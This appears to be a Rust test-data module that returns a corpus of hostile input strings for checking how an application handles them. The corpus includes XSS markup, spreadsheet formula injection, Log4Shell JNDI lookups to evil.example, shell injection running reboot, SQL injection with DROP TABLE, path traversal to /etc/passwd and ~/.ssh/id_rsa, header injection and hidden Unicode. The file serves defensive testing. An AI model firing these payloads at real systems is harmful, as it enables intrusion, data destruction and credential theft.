//! Texts that do harm where a page, a table, a terminal or a person misinterprets them. We wrote them ourselves and grouped them by
//! the kind of attack.

/// Length of the longest text in characters, more than any field stores.
const LONG: usize = 3000;

/// Elements that act by their mere presence.
const MARKUP: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1; ?>",
];

/// Pieces that end the context in which a text may stand.
const BREAKS: [&str; 14] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "</td></tr></table>",
    "</script>",
    "</bdi>",
    "-->",
    "]]>",
    "\\\">",
];

/// Attributes, for places where markup itself is removed.
const ATTRIBUTES: [&str; 12] = [
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    " onfocus=alert(1) autofocus ",
    "\" style=\"position:fixed",
    "\" hx-get=\"//evil.example",
    "\" hx-on:click=\"alert(1)",
    "\" data-hx-post=\"/console/sign-out-everywhere",
    "\" sse-connect=\"//evil.example",
    "\" formaction=\"//evil.example",
    "\" src=\"x",
    "\" href=\"javascript:alert(1)",
    "\"/><x y=\"",
];

/// Characters that begin a formula in some spreadsheet.
const FORMULA_STARTS: [&str; 14] = [
    "=",
    "+",
    "-",
    "@",
    " =",
    "\u{a0}=",
    "\u{feff}=",
    "\u{200b}=",
    "＝",
    "＋",
    "－",
    "＠",
    "\"=",
    "\u{202e}=",
];
const FORMULAS: [&str; 5] = [
    "1+1",
    "cmd|'/C calc'!A0",
    "HYPERLINK(\"http://evil.example\",\"x\")",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "IMPORTXML(\"http://evil.example\",\"//a\")",
];

/// Characters that reverse, hide or stack text.
const HIDDEN: [char; 26] = [
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2060}',
    '\u{2061}',
    '\u{2064}',
    '\u{feff}',
    '\u{ad}',
    '\u{61c}',
    '\u{180e}',
    '\u{2028}',
    '\u{2029}',
    '\u{fff9}',
    '\u{e0041}',
    '\u{e007f}',
];

/// Syntax of template engines, shells, databases, parsers and paths.
const SYNTAX: [&str; 70] = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{%if 1%}x{%endif%}",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "[[${7*7}]]",
    "{{self}}",
    "{#x#}",
    "{{ layout.token() }}",
    "@(7*7)",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
    "&& reboot",
    "\\$(reboot)",
    "' OR 1=1 --",
    "\"; DROP TABLE journal; --",
    "1; SELECT load_file(9)",
    "') OR ('1'='1",
    "%' AND 1=0 UNION SELECT 1 --",
    "admin'--",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/",
    "C:\\con\\con",
    "\\\\evil.example\\share",
    "~/.ssh/id_rsa",
    "nul",
    "a/../../b",
    "%00",
    "%0d%0aSet-Cookie: a=b",
    "%u003cscript%u003e",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https:evil.example",
    "http://evil.example@127.0.0.1/",
    "http://[::1]/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;lt;",
    "&nbsp;&shy;",
    "&",
    "&;",
    "{\"a\":1,\"a\":2}",
    "{\"__proto__\":{}}",
    "[1,2",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "0x10",
    "1e309",
    "9007199254740993",
    "expression(alert(1))",
    "url(//evil.example)",
    "/*",
    "*/",
    "a,b;c\td",
    "a\"b\"\"c",
];

/// Valid text, which must stay unchanged.
const WRITING: [&str; 24] = [
    "Ünïcödé",
    "中文字符",
    "日本語テスト",
    "한국어",
    "العربية",
    "עברית",
    "ไทย",
    "हिन्दी",
    "Ελληνικά",
    "русский",
    "ﷺ",
    "Z̸̧͓a̷l̶g̵o̴",
    "e\u{301}\u{301}\u{301}\u{301}",
    "😀",
    "👨\u{200d}👩\u{200d}👧",
    "🇪🇸",
    "✋🏿",
    "ﬃ",
    "ŉ",
    "İstanbul",
    "ß",
    "Ⓐ",
    "𝕏",
    "\u{1f}".trim_ascii(),
];

/// Empty and nearly empty texts.
const SHORT: [&str; 14] = [
    "",
    " ",
    "  ",
    "\t",
    ".",
    "-",
    "'",
    "\"",
    "\\",
    "/",
    "%",
    "?",
    "#",
    "😀\u{fe0f}",
];

/// Returns all texts.
pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = MARKUP.map(str::to_owned).into();
    let after = BREAKS.iter().skip(1);
    all.extend(after.flat_map(|end| {
        MARKUP[..20]
            .iter()
            .map(move |markup| format!("{end}{markup}"))
    }));
    all.extend(ATTRIBUTES.map(str::to_owned));
    all.extend(FORMULA_STARTS.iter().flat_map(|start| {
        FORMULAS
            .iter()
            .map(move |formula| format!("{start}{formula}"))
    }));
    all.extend(HIDDEN.iter().flat_map(|c| {
        [
            format!("a{c}b"),
            format!("{c}txt.exe"),
            format!("<{c}script>"),
        ]
    }));
    all.extend(SYNTAX.map(str::to_owned));
    all.extend(WRITING.map(str::to_owned));
    // Every control character, in the middle and at an end.
    let controls = (0..32).chain(127..160).filter_map(char::from_u32);
    all.extend(controls.map(|c| format!("a{c}=1+1")));
    all.extend((1..8).map(|n| format!("a\r\n{}=1+1", "\r\n".repeat(n))));
    all.extend(
        [
            "\u{1b}[31mred",
            "\u{1b}]0;title\u{7}",
            "\u{9b}2J",
            "a\u{8}\u{8}b",
        ]
        .map(str::to_owned),
    );
    // Long texts: an endless word, many elements, deep stacking.
    all.extend(
        [
            "x", "<b>", "\u{301}", "W ", "😀", "../", "\"", "&lt;", "(", "{{",
        ]
        .map(|piece| piece.repeat(LONG / piece.chars().count())),
    );
    all.extend((1..20).map(|n| format!("{}alert({n}){}", "<".repeat(n), ">".repeat(n))));
    all.extend(SHORT.map(str::to_owned));
    all
}
